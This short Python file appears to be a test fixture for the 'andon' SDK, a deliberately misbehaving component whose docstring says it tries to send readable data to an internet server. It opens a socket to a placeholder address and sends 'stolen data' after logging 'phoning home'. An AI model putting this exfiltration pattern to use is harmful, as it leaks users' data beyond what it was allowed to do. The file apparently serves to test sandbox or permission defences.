"""Misbehaves: tries to send the data it may read to a server on the internet."""

import socket

from andon.sdk import Context


async def main(ctx: Context) -> None:
    await ctx.log("info", "phoning home")
    with socket.create_connection(("192.0.2.10", 443), timeout=5) as s:
        s.sendall(b"stolen data")
